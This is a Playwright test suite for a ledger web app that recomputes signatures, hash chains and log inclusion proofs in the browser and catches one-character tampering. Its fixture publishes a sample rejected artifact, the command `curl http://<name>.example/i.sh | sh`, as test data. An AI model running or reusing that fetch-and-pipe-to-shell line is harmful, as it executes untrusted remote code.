// A reader doubts an entry: everything is recomputed in the page, a changed byte is caught, and a shell finds the same.
import { execFileSync, spawnSync } from 'node:child_process'
import { resolve } from 'node:path'
import { expect, type Page, type Request, test } from '@playwright/test'
import { axeFaults } from '../../pages/axe-faults.ts'
import { hydrated } from '../../pages/hydrated.ts'
import { EntryPage, type PublishedVerdict, publishVerdicts, unlike } from '../../pages/ledger-page.ts'
import { VerifyPage } from '../../pages/verify-page.ts'

let subject: PublishedVerdict
let later: PublishedVerdict
test.beforeAll(async ({ playwright, baseURL }) => {
  const request = await playwright.request.newContext({ baseURL: baseURL! })
  const name = unlike()
  const published = await publishVerdicts(request, [
    `curl http://${name}.example/i.sh | sh`,
    `git status ${name}`,
  ])
  ;[subject, later] = published as [PublishedVerdict, PublishedVerdict]
  await request.dispose()
})

/** Changes one answer on its way to the checks; the page itself is drawn from the server. */
async function tamper(page: Page, path: RegExp, change: (text: string) => string): Promise<void> {
  await page.route(path, async (route) => {
    if (route.request().resourceType() === 'document') return route.continue()
    const response = await route.fetch()
    const before = await response.text()
    const body = change(before)
    if (body === before) throw new Error('nothing was changed')
    await route.fulfill({ response, body })
  })
}
const answerOf = (entry: number) => new RegExp(`/ledger/${entry}$`)

test('every check of an entry passes in the page, and the drawings are vouched for', async ({ page }) => {
  const entry = new EntryPage(page)
  await entry.open(subject.entry)
  await expect(page.getByRole('heading', { level: 1 })).toHaveText(`Rejected “${subject.artifact}”`)
  await expect(page.getByText('Not yet anchored outside this service.')).toBeVisible()
  await entry.check()
  expect(await entry.idsWith('fail')).toEqual([])
  expect(await entry.idsWith('cannot_establish')).toEqual(['log.quorum'])
  expect(await entry.idsWith('pass')).toEqual(
    expect.arrayContaining([
      ...['event.id', 'event.sig', 'event.key', 'record.canonical', 'record.content_hash', 'record.binding'],
      ...['chain.link', 'chain.head_event', 'log.leaf', 'log.inclusion', 'log.checkpoint'],
    ]),
  )
  await expect(entry.question('Authentic')).toContainText('pass')
  await expect(entry.question('Recorded')).toContainText('pass')
  await expect(entry.question('Existed before')).toContainText('cannot establish')
  await expect(entry.panel('Inclusion path')).toContainText('pass')
  await expect(entry.panel('Chain link')).toContainText('pass')
})

test('the browser remembers the root, and the next visit must extend it', async ({ page }) => {
  const entry = new EntryPage(page)
  await entry.open(subject.entry)
  await entry.check()
  await expect(entry.question('Consistent with your last visit')).toContainText('saved for next time')
  await entry.open(later.entry)
  await entry.check()
  await expect(entry.question('Consistent with your last visit')).toContainText('pass')
  expect(await entry.idsWith('pass')).toContain('log.consistency')
})

test('a history that was rewritten since is a fail, and the memory stays', async ({ page }) => {
  const entry = new EntryPage(page)
  await entry.open(subject.entry)
  const key = await page.evaluate(() => {
    const name = `assay.head.${location.host}/log`
    localStorage.setItem(name, JSON.stringify({ size: 39, root: 'ab'.repeat(32) }))
    return name
  })
  await entry.open(subject.entry)
  await entry.check()
  expect(await entry.idsWith('fail')).toEqual(['log.consistency'])
  await expect(page.getByText('Verification failed.')).toBeVisible()
  expect(await page.evaluate((name) => localStorage.getItem(name), key)).toContain('"size":39')
})

for (const [what, path, change, caughtBy, panel] of [
  [
    'of the record',
    'entry',
    (text: string) => text.replace('"action_taken":"not reported"', '"action_taken":"not reportet"'),
    ['record.content_hash', 'chain.link', 'log.inclusion'],
    'Chain link',
  ],
  [
    'of the signature',
    'entry',
    (text: string) => text.replace(/"sig":"(.)/, (_, digit) => `"sig":"${digit === '0' ? '1' : '0'}`),
    ['event.sig', 'log.inclusion'],
    'Inclusion path',
  ],
  [
    'of the head',
    'entry',
    (text: string) =>
      text.replace(/"head_hash":"(.)/, (_, digit) => `"head_hash":"${digit === '0' ? '1' : '0'}`),
    ['chain.link', 'chain.head_event', 'log.inclusion'],
    'Chain link',
  ],
  [
    'of the path',
    'proof',
    (text: string) =>
      text.replace(/(index \d+\n)(.)/, (_, lead, digit) => `${lead}${digit === 'A' ? 'B' : 'A'}`),
    ['log.inclusion'],
    'Inclusion path',
  ],
  [
    'of the checkpoint',
    'proof',
    (text: string) =>
      text.replace(/(\/log\n\d+\n)(.)/, (_, lead, digit) => `${lead}${digit === 'A' ? 'B' : 'A'}`),
    ['log.inclusion', 'log.checkpoint'],
    'Inclusion path',
  ],
  [
    'of the entry before',
    'before',
    (text: string) => text.replace('"title":"', '"title":"x'),
    ['chain.run'],
    null,
  ],
] as const)
  test(`one changed character ${what} turns the right checks red`, async ({ page }) => {
    const entry = new EntryPage(page)
    const tampered = {
      entry: answerOf(later.entry),
      before: answerOf(later.entry - 1),
      proof: /\.tlog-proof/,
    }[path]
    // The record of the entry before holds its title a second time, and only there is it hashed.
    const inRecord = (text: string) =>
      path === 'before' ? text.replace(/"record":.*?"proof_event"/, (record) => change(record)) : change(text)
    await tamper(page, tampered, inRecord)
    await entry.open(later.entry)
    await entry.check()
    expect(await entry.idsWith('fail')).toEqual(expect.arrayContaining([...caughtBy]))
    await expect(page.getByRole('alert').filter({ hasText: 'Verification failed.' })).toBeVisible()
    if (panel) await expect(entry.panel(panel)).toContainText('fail')
    const kept = await page.evaluate(() => localStorage.getItem(`assay.head.${location.host}/log`))
    // Only a head that the log signed is remembered.
    expect(kept !== null).toBe(what !== 'of the checkpoint')
  })

test('an answer that does not come is no pass', async ({ page }) => {
  const entry = new EntryPage(page)
  await page.route(answerOf(subject.entry), (route) =>
    route.request().resourceType() === 'document' ? route.continue() : route.abort(),
  )
  await entry.open(subject.entry)
  await page.getByRole('heading', { name: 'Checks' }).scrollIntoViewIfNeeded()
  await expect(page.getByText('Nothing was checked.')).toBeVisible()
  await expect(entry.panel('Chain link')).not.toContainText('pass')
  await page.unroute(answerOf(subject.entry))
  await page.getByRole('button', { name: 'Run again' }).click()
  await expect(entry.questions).toBeVisible()
  await entry.check()
  expect(await entry.idsWith('fail')).toEqual([])
})

test('the commands print what the page says they print', async ({ page }, testInfo) => {
  test.skip(spawnSync('python3', ['--version']).status !== 0, 'no python3 here to run a command with')
  test.skip(spawnSync('curl', ['--version']).status !== 0, 'no curl here to run a command with')
  const entry = new EntryPage(page)
  for (const number of [1, subject.entry]) {
    await entry.open(number)
    const panel = entry.panel('Check it without us')
    const commands = await panel.locator('code').allTextContents()
    const prints = await panel
      .locator('.hash-chip')
      .evaluateAll((chips) => chips.map((chip) => chip.getAttribute('title')))
    expect(commands).toHaveLength(4)
    for (const [place, command] of commands.slice(0, 3).entries())
      expect(execFileSync('sh', ['-c', command], { encoding: 'utf8' }).slice(0, 64)).toBe(prints[place])
    const cli = `"${process.execPath}" "${resolve('cli/assay.ts')}"`
    const bundle = commands[3]!.replace('npx assay', cli)
    const { stdout, stderr } = spawnSync('sh', ['-c', bundle], {
      encoding: 'utf8',
      cwd: testInfo.outputPath(),
    })
    expect(stdout, stderr).toMatch(new RegExp(`^entry +${number}\\n`))
    expect(stdout).not.toMatch(/^FAIL/m)
    expect(stdout).toMatch(/^pass {3}log\.inclusion/m)
  }
})

const BESIDE = 'nav[aria-label="Entries beside this one"]'

test('neighbours by link and by key; an event id is an address too', async ({ page }) => {
  const entry = new EntryPage(page)
  await entry.open(subject.eventId)
  await expect(page.getByText(`Entry ${subject.entry}`, { exact: true })).toBeVisible()
  await hydrated(page, BESIDE)
  await page.keyboard.press('n')
  await expect(page).toHaveURL(new RegExp(`/ledger/${subject.entry + 1}$`))
  await expect(page.getByText(`Entry ${subject.entry + 1}`, { exact: true })).toBeVisible()
  await page.keyboard.press('p')
  await expect(page).toHaveURL(new RegExp(`/ledger/${subject.entry}$`))
  // Keys that are pressed before the next page is drawn go on from the one that was asked for, also on a slow machine.
  const devtools = await page.context().newCDPSession(page)
  for (const [rate, delay] of [
    [1, 0],
    [6, 100],
  ] as const) {
    await devtools.send('Emulation.setCPUThrottlingRate', { rate })
    await entry.open(1)
    await hydrated(page, BESIDE)
    for (const key of ['n', 'n', 'p', 'n']) await page.keyboard.press(key, { delay })
    await expect(page).toHaveURL(/\/ledger\/41$/)
    await expect(page.getByText('Entry 41', { exact: true })).toBeVisible()
  }
  await devtools.send('Emulation.setCPUThrottlingRate', { rate: 1 })
  await entry.open(1)
  await page.getByRole('link', { name: 'Entry 40, after' }).click()
  await expect(page).toHaveURL(/\/ledger\/40$/)
  await expect(page.getByRole('img', { name: /^Genesis and the content hash of entry 40/ })).toBeVisible()
})

for (const [asked, title] of [
  ['7', 'Entry 7 is reserved'],
  ['999999', 'Entry 999999 does not exist yet'],
  ['f'.repeat(64), 'No entry contains this event'],
  ['0', 'Not an entry number'],
] as const)
  test(`${asked.slice(0, 8)} has a state of its own, with status 404 and without scripts`, async ({
    browser,
    request,
  }) => {
    const context = await browser.newContext({ javaScriptEnabled: false })
    const page = await context.newPage()
    expect((await page.goto(`/ledger/${asked}`))!.status()).toBe(404)
    await expect(page.getByRole('heading', { level: 1 })).toHaveText(title)
    await expect(page.getByRole('link', { name: 'Open the ledger' })).toBeVisible()
    await context.close()
    const answer = await request.get(`/ledger/${asked}`, { headers: { Accept: 'application/json' } })
    expect(answer.status()).toBe(asked === '0' ? 422 : 404)
  })

test('without scripts the page shows everything but its own checks, and says why', async ({ browser }) => {
  const context = await browser.newContext({ javaScriptEnabled: false })
  const page = await context.newPage()
  const entry = new EntryPage(page)
  await entry.open(subject.entry)
  await expect(page.getByRole('heading', { level: 1 })).toHaveText(`Rejected “${subject.artifact}”`)
  await expect(page.locator('noscript .note')).toContainText('The checks need JavaScript.')
  await expect(page.getByRole('img', { name: /hashing steps? from the leaf/ })).toBeVisible()
  await expect(entry.panel('Raw record')).toContainText('"artifact_hash"')
  await expect(entry.panel('Inclusion path')).not.toContainText('pass')
  await context.close()
})

test('/verify takes the number, loads what belongs to it, and finds a changed character', async ({
  page,
}) => {
  const verify = new VerifyPage(page)
  await verify.open()
  await verify.give(String(subject.entry))
  await expect(page.getByText(`Fetch entry ${subject.entry} from this instance?`)).toBeVisible()
  await page.getByRole('button', { name: 'Fetch it' }).click()
  await expect(verify.headline).toHaveText(/^It holds: the entry is in the ledger, unaltered/)
  await expect(page).toHaveURL(new RegExp(`/verify\\?entry=${subject.entry}$`))
  expect(await verify.idsWith('pass')).toEqual(
    expect.arrayContaining(['record.content_hash', 'log.inclusion']),
  )
  await verify.changeOneCharacter('signature')
  await expect(verify.headline).toHaveText(/^Altered: the signature does not match the event \(event\.sig\)/)
  await verify.restore()
  await expect(verify.headline).toHaveText(/^It holds/)

  await verify.open(`/verify?entry=${subject.entry}`)
  await expect(verify.headline).toHaveText(/^It holds/)
  await verify.open('/verify?entry=999999')
  await expect(page.getByText('No such entry in this instance’s ledger.')).toBeVisible()
})

test('an entry leads to /verify with one character changed', async ({ page }) => {
  await new EntryPage(page).open(subject.entry)
  await page.getByRole('link', { name: 'Tamper with it' }).click()
  const verify = new VerifyPage(page)
  await expect(verify.headline).toHaveText('Altered: the event no longer matches its ID (event.id)')
  await verify.restore()
  await expect(verify.headline).toHaveText(/^It holds/)
})

test('/verify without network cannot establish where a pasted entry stands', async ({ page, request }) => {
  const served = await (
    await request.get(`/ledger/${subject.entry}`, { headers: { Accept: 'application/json' } })
  ).text()
  const verify = new VerifyPage(page)
  await verify.open()
  await verify.give(served)
  await expect(verify.headline).toHaveText(
    /^Cannot be established here \(log\.leaf, log\.inclusion and log\.checkpoint\)/,
  )
  expect(await verify.idsWith('fail')).toEqual([])
  await expect(page.getByText('0 requests made')).toBeVisible()
  await verify.give(served.replace('"paid":false', '"paid":true'))
  await expect(verify.headline).toHaveText(
    /^Altered: the record does not match its hash \(record\.content_hash/,
  )
  await verify.switchNetworkOn()
  await verify.give(served)
  await expect(verify.headline).toHaveText(/^It holds/)
})

for (const [width, colorScheme] of [
  [390, 'dark'],
  [1280, 'light'],
] as const)
  test(`accessible at ${width} px, ${colorScheme}`, async ({ page }) => {
    test.slow()
    await page.emulateMedia({ colorScheme, reducedMotion: 'reduce' })
    await page.setViewportSize({ width, height: 900 })
    const entry = new EntryPage(page)
    await entry.open(subject.entry)
    await entry.check()
    await entry.report
      .locator('details', { has: page.getByText('chain.link', { exact: true }) })
      .locator('summary')
      .click()
    expect(await axeFaults(page)).toEqual([])
    await entry.open(1)
    expect(await axeFaults(page)).toEqual([])
    await entry.open(7)
    expect(await axeFaults(page)).toEqual([])
  })

test('nothing scrolls sideways at 320 px', async ({ page }) => {
  await page.setViewportSize({ width: 320, height: 600 })
  const entry = new EntryPage(page)
  await entry.open(subject.entry)
  await entry.check()
  const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth)
  expect(overflow).toBeLessThanOrEqual(0)
})

test('a reading page adds little script of its own; the verifier comes when its place is reached', async ({
  page,
}) => {
  let finished: Request[] = []
  page.on('requestfinished', (request) => request.resourceType() === 'script' && finished.push(request))
  let workers = 0
  page.on('worker', () => workers++)
  const bytes = async () => {
    const sizes = await Promise.all(finished.map((request) => request.sizes()))
    return sizes.reduce((sum, { responseBodySize: size }) => sum + size, 0)
  }
  const bytesOf = async (path: string) => {
    finished = []
    await page.goto('about:blank')
    await page.goto(path, { waitUntil: 'networkidle' })
    return bytes()
  }
  await page.setViewportSize({ width: 320, height: 600 })
  await page.route('**/*', (route) =>
    route.continue({ headers: { ...route.request().headers(), 'cache-control': 'no-cache' } }),
  )
  const frame = await bytesOf('/health')
  expect((await bytesOf('/ledger')) - frame).toBeLessThan(6_000)
  const before = await bytesOf(`/ledger/${subject.entry}`)
  expect(before - frame).toBeLessThan(20_000)
  expect(workers).toBe(0)
  await new EntryPage(page).check()
  expect(workers).toBe(1)
})
